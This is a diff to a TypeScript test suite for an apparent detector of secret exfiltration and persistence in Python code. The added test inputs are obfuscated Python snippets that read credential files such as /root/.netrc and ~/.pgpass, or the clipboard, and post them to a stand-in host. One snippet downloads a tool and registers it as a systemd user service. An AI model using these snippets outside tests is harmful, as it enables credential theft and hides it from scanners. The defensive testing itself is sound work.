@@ -128,11 +128,103 @@ describe("a Python program", () => {
       ],
       "gh auth token",
     ],
+    [
+      "through paths that a list makes of parts",
+      [
+        "import os, requests",
+        'NAMES = ["co" + "nf"] + ["%s%s" % ("pg", "pass")]',
+        'for p in [os.path.expanduser("~/." + n) for n in NAMES]: requests.post("https://h.example", data=open(p).read())',
+      ],
+      "~/.pgpass",
+    ],
+    [
+      "through functions that a generator names, to an address made of codes",
+      [
+        "import importlib",
+        'lib = importlib.import_module("urllib" + ".request")',
+        'go, make = (getattr(lib, n) for n in ("url" + "open", "Req" + "uest"))',
+        'to = "".join(chr(c - 1) for c in b"iuuqt;00i/fybnqmf")',
+        'go(make(to, data=open("/root/.netrc", "rb").read()))',
+      ],
+      "/root/.netrc",
+    ],
+    [
+      "through an archive in memory",
+      [
+        "import io, zipfile, requests",
+        "mem = io.BytesIO()",
+        'with zipfile.ZipFile(mem, "w") as z: z.writestr("n", open("/root/.netrc").read())',
+        'requests.post("https://h.example", data=mem.getvalue())',
+      ],
+      "/root/.netrc",
+    ],
+    [
+      "through an object that is made with it",
+      [
+        "import requests",
+        "class Client:",
+        "    def __init__(self, given): self.kept = given",
+        '    def ping(self): requests.post("https://h.example", data=self.kept)',
+        'Client(open("/root/.netrc").read()).ping()',
+      ],
+      "/root/.netrc",
+    ],
+    [
+      "through a handler of its own logs",
+      [
+        "import logging, requests",
+        "class Ship(logging.Handler):",
+        '    def emit(self, record): requests.post("https://h.example", json={"c": record.ctx})',
+        'logging.getLogger("a").info("x", extra={"ctx": open("/root/.netrc").read()})',
+      ],
+      "/root/.netrc",
+    ],
   ])("sends a secret %s", (_how, lines, what) =>
     expect(found("a.py", ...lines)).toContain(`transfer critical ${what}`),
   );
 
+  it("sends all that is ever copied, and not one text", () => {
+    const send = 'requests.post("https://h.example", data=pyperclip.paste())';
+    expect(found("a.py", "import pyperclip, requests", "while True:", `    ${send}`)).toEqual([
+      "transfer critical the clipboard",
+    ]);
+    expect(found("a.py", "import pyperclip, requests", send)).toEqual([]);
+  });
+
+  it("starts what it downloads with the session", () => {
+    const unit = (program: string) => [
+      "import urllib.request, subprocess",
+      "from pathlib import Path",
+      'tool = Path.home() / ".local/bin/tool"',
+      'urllib.request.urlretrieve("https://h.example/tool", tool)',
+      'unit = Path.home() / ".config/systemd/user/tool.service"',
+      `unit.write_text("[Service]\\nExecStart=%s run" % ${program})`,
+    ];
+    expect(found("a.py", ...unit("tool"))).toEqual(["execution critical https://h.example/tool"]);
+    expect(found("a.py", ...unit('"/usr/bin/python3"'))).toEqual([]);
+  });
+
   it.each([
+    [
+      "a record of its own logs without a secret",
+      [
+        "import logging, os, requests",
+        "class Ship(logging.Handler):",
+        '    def emit(self, record): requests.post("https://h.example", json={"m": record.getMessage()})',
+        'TOKEN = os.environ["SLACK_TOKEN"]',
+        'logging.getLogger("a").info("started")',
+      ],
+    ],
+    [
+      "an archive in memory of results",
+      [
+        "import io, zipfile, requests",
+        'old = open("/root/.netrc").read()',
+        "mem = io.BytesIO()",
+        'with zipfile.ZipFile(mem, "w") as z: z.writestr("n", "done")',
+        'requests.post("https://h.example", data=mem.getvalue())',
+      ],
+    ],
     [
       "an environment for a child",
       ["import os, subprocess", "subprocess.run(['curl', 'https://h.example'], env=dict(os.environ))"],
